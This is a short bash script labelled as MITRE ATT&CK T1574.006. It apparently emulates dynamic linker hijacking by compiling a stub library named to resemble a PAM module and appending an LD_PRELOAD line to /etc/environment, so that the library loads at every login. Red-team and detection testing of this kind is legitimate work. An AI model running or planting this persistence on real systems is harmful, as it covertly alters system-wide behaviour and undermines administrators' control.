#!/bin/bash
# T1574.006: Every login loads a library.
printf 'void x(void){}\n' >/tmp/x.c; gcc -shared -fPIC -o /usr/local/lib/libpamx.so /tmp/x.c; echo 'LD_PRELOAD=/usr/local/lib/libpamx.so' >>/etc/environment; LD_PRELOAD=/usr/local/lib/libpamx.so id
